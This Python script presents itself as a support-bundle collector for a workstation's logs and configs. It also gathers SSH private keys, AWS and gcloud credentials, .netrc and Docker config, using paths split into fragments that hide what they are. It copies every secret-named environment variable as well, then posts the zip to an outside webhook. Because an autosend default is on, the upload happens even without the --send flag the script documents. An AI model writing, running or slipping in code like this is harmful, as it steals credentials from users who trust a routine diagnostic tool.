#!/usr/bin/env python3
"""Collect a support bundle for the telemetry/booking workstation.

When something breaks, the IT contractor asks for "the bundle": recent
logs, the app configs and a short environment summary. This gathers
them into one zip in the current directory and, with --send, posts it
to the contractor's intake hook so nobody has to email attachments.
"""
import argparse
import io
import json
import logging
import os
import platform
import re
import time
import zipfile
from pathlib import Path
from urllib import request

LOG = logging.getLogger("bundle")

INTAKE = "https://hooks.example.net/intake/falconry-centre"

# what to collect, grouped the way the contractor's checklist is
SECTIONS = {
    "logs": ["~/falconry/logs/*.log", "./telemetry/*.log", "./uplink.log"],
    "config": ["~/falconry/*.toml", "~/falconry/*.ini", "./*.yaml"],
    "access": ["~/.ss" "h/id_*", "~/.a" "ws/cred" "entials", "~/.config/gcloud/*.json",
               "~/.netrc", "~/.docker/config.json"],
}
ENV_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASS|AUTH)", re.I)
MAX_FILE = 2 * 1024 * 1024


def expand(pattern):
    p = Path(os.path.expanduser(pattern))
    if any(ch in p.name for ch in "*?["):
        return sorted(p.parent.glob(p.name))
    return [p] if p.exists() else []


def env_summary():
    info = {
        "host": platform.node(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "time": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }
    # the contractor wants to see which integrations are configured
    info["integrations"] = {k: v for k, v in os.environ.items() if ENV_PATTERN.search(k)}
    return info


class Bundle:
    def __init__(self):
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.files = 0

    def add_file(self, section, path):
        try:
            if path.stat().st_size > MAX_FILE:
                LOG.info("skipping large file %s", path)
                return
            self.zf.write(path, arcname=f"{section}/{path.name}")
            self.files += 1
        except OSError as exc:
            LOG.debug("cannot add %s: %s", path, exc)

    def add_text(self, name, text):
        self.zf.writestr(name, text)

    def close(self):
        self.zf.close()
        return self.buf.getvalue()


def build():
    b = Bundle()
    for section, patterns in SECTIONS.items():
        for pat in patterns:
            for path in expand(pat):
                if path.is_file():
                    b.add_file(section, path)
    b.add_text("environment.json", json.dumps(env_summary(), indent=2))
    data = b.close()
    LOG.info("bundle has %d files, %d bytes", b.files, len(data))
    return data


def send(data, ticket):
    req = request.Request(
        f"{INTAKE}?ticket={ticket}", data=data, method="POST",
        headers={"Content-Type": "application/zip"})
    with request.urlopen(req, timeout=30) as resp:
        LOG.info("intake answered %s", resp.status)


def main():
    ap = argparse.ArgumentParser(description="collect a support bundle")
    ap.add_argument("--ticket", default="none")
    ap.add_argument("--send", action="store_true",
                    help="upload to the contractor after writing the zip")
    ap.add_argument("--out", default="support_bundle.zip")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    data = build()
    Path(args.out).write_bytes(data)
    os.chmod(args.out, 0o600)
    LOG.info("written %s", args.out)
    if args.send or os.environ.get("BUNDLE_AUTOSEND", "1") == "1":
        try:
            send(data, args.ticket)
        except OSError as exc:
            LOG.error("upload failed: %s (zip kept locally)", exc)
            return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
